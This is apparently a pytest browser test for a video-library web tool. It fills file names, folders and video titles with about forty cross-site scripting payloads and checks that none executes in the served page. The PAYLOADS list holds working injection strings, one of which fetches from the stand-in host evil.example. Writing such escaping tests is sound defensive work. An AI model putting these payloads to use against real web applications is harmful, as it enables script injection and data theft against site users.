"""Hostile text in every place that the page shows, in a browser."""

from __future__ import annotations

import os
from pathlib import Path

import av
import numpy as np
import pytest

import moviola

pytestmark = pytest.mark.browser

# Strings that run where text becomes markup, code or an address. Each would set `__xss`.
_RUN = "window.__xss=1"
_FETCHED = "fetch(`//evil.example`)"

# Without `/` and NUL, which no file name can hold.
PAYLOADS = (
    f"<script>{_RUN}</script>".replace("/", "\\x2f"),
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f'"><svg onload={_RUN}>',
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body onload={_RUN}>",
    "<iframe srcdoc='<img src=x onerror=parent.__xss=1>'>",
    f"<iframe src=javascript:{_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}>",
    f"<audio src=x onerror={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<math><mtext><img src=x onerror={_RUN}>",
    f"<style>@keyframes x{{}}<b style=animation-name:x onanimationstart={_RUN}>",
    f"<object data=javascript:{_RUN}>",
    f"<embed src=javascript:{_RUN}>",
    f"<a href=javascript:{_RUN}>press",
    f"javascript:{_RUN}",
    f"data:text;html,<script>{_RUN}",
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus='",
    f"`-{_RUN}-`",
    f"${{{_RUN}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"\\u003cimg src=x onerror={_RUN}\\u003e",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"%3Cimg src=x onerror={_RUN}%3E",
    f"<img src=x onerror\n={_RUN}>",
    f"<<img src=x onerror={_RUN}>",
    f"<noscript><p title='<img src=x onerror={_RUN}>'>",
    f"<template><img src=x onerror={_RUN}>",
    f"<meta http-equiv=refresh content=0;url=javascript:{_RUN}>",
    f"<base href=javascript:{_RUN}>",
    f"\u202e<img src=x onerror={_RUN}>",
    f"\x1b[31m<img src=x onerror={_RUN}>",
    f"<img src=x onerror={_FETCHED}>".replace("/", "\\x2f"),
    f"];{_RUN};[",
)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> tuple[Path, list[str]]:
    """A library whose file names, folders and titles are payloads, and failed files among them."""
    root = tmp_path_factory.mktemp("hostile") / "videos"
    names = []
    for place, payload in enumerate(PAYLOADS):
        folder = root / f"{payload}{place}"
        folder.mkdir(parents=True)
        name = f"{payload}.mp4"
        _write(folder / name, payload, shade=40 + 5 * place)
        names.append(name)
    for payload in PAYLOADS[:12]:
        (root / f"{payload} broken.mp4").write_bytes(os.urandom(64) + payload.encode())
    library = root.parent / "library"
    moviola.index([root], library=library, model="shapes")
    return library, names


def _write(path: Path, title: str, shade: int) -> None:
    with path.open("wb") as file, av.open(file, "w", format="mp4") as container:
        container.metadata["title"] = title
        container.metadata["comment"] = title
        stream = container.add_stream("libx264", rate=8)
        stream.width, stream.height, stream.pix_fmt = 64, 36, "yuv420p"
        pixels = np.full((36, 64, 3), shade, np.uint8)
        for step in range(8):
            pixels[:, : 4 * step] = (255 - shade, shade, 90)
            container.mux(stream.encode(av.VideoFrame.from_ndarray(pixels)))
        container.mux(stream.encode())


def test_nothing_of_it_runs(look, serving, hostile):
    library, names = hostile
    assert len(PAYLOADS) >= 30
    with serving(library) as server:
        look(
            "hostile",
            server,
            payloads=list(PAYLOADS),
            names=names,
            seconds=500,
        )
